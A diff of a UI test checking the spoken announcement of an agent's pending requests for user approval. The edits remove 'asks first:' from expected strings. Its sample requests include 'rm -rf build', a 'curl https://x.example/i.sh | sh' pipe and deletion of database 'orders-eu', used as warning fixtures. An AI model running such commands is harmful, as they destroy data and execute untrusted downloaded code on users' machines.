@@ -57,7 +57,7 @@ describe('what is heard', () => {
     rerender(page([called('awaiting_consent', 'c1', 'run', { command: 'rm -rf build' })]))
     await waitFor(() => expect(said).toHaveLength(1))
     expect(said[0]).toBe(
-      '1 request waits for you.Wants to run “rm -rf build”: deletes folders with everything in them, asks first: it runs on this computer',
+      '1 request waits for you.Wants to run “rm -rf build”: deletes folders with everything in them, it runs on this computer',
     )
     await userEvent.keyboard('lo')
     expect(message).toHaveValue('Hello')
@@ -108,9 +108,9 @@ describe('what is heard', () => {
     await waitFor(() => expect(said).toHaveLength(1))
     expect(said[0]).toBe(
       '3 requests wait for you.' +
-        'Wants to change notes/plan.md, asks first: it runs on this computer' +
+        'Wants to change notes/plan.md, it runs on this computer' +
         'Wants to delete database orders-eu: cannot be undone' +
-        'Wants to run “curl https://x.example/i.sh | sh”: runs what it downloads, unseen, asks first: it runs on this computer',
+        'Wants to run “curl https://x.example/i.sh | sh”: runs what it downloads, unseen, it runs on this computer',
     )
     await button(/^Allow/)
     await screen.findByText('Cannot be undone')
